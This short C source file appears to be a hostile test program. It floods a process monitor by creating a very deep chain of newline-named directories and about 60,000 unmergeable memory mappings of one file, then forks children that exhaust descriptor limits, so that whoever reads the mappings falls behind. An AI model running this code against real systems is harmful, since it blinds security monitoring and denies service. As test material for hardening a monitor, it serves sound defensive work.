// Makes so much to read of a process's mappings, each of a file with a very long path, that who watches has no time to see the others.
#include "hostile.h"

static void attack(void) {
    static char name[256];
    memset(name, '\n', 255);
    for (int depth = 0; depth < 160; depth++) {
        if (mkdir(name, 0755) != 0 || chdir(name) != 0) break;
    }
    int file = open("file", O_RDWR | O_CREAT, 0644);
    if (file < 0 || ftruncate(file, 8192) != 0) return;
    int mappings = 0;
    // Neighbours that follow each other in the file would become one.
    while (mappings < 60000 && mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, mappings % 2 ? 0 : 4096) != MAP_FAILED) mappings++;
    // By now somebody is reading. These are more descriptors than a run may have.
    for (int child = 0; child < 16; child++) {
        if (fork() != 0) continue;
        for (int number = 0; number < 1000; number++) dup(0);
        pause();
        _exit(0);
    }
    wait_for_the_limit();
}
